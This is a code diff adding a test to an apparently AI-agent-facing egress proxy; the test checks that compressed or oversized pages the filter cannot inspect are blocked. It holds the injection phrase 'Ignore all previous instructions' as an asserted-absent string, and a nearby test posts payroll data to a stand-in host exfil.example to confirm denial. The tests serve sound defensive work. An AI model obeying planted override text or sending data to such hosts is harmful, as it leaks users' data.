@@ -96,6 +96,23 @@ def test_a_page_with_a_planted_instruction_taints_the_run(proxy, label: str | No
     assert [rec["method"] for rec in stack.upstream_requests("egress")] == ["POST", "GET"]
 
 
+def test_an_answer_the_filter_cannot_read_never_reaches_the_agent(proxy) -> None:
+    """A page the origin compresses although the request asked for identity, and one over the
+    inspection limit (limits.max_body_bytes, 4 MiB): neither reaches the agent unread. The
+    compressed one is a 502 with the reason; the big one keeps its 200 (the headers went before
+    the body was counted) and its body says why."""
+    stack, client = proxy
+    r = client.get("http://api.github.com/gzip-page", headers=RUN)
+    assert r.status_code == 502, r.text
+    assert r.json()["error"] == "unreadable_response", r.text
+    assert "Ignore all previous instructions" not in r.text
+    r = client.get("http://api.github.com/big-page?bytes=5242880", headers=RUN)
+    assert r.json()["error"] == "unreadable_response", r.text[:200]
+    assert "larger than" in r.json()["reason"]
+    assert [rec["path"] for rec in stack.upstream_requests("egress")] == [
+        "/gzip-page", "/big-page?bytes=5242880"]
+
+
 def test_unknown_host_is_denied_before_any_connection(proxy) -> None:
     stack, client = proxy
     r = client.post("http://exfil.example/upload", json={"data": "payroll"}, headers=RUN)
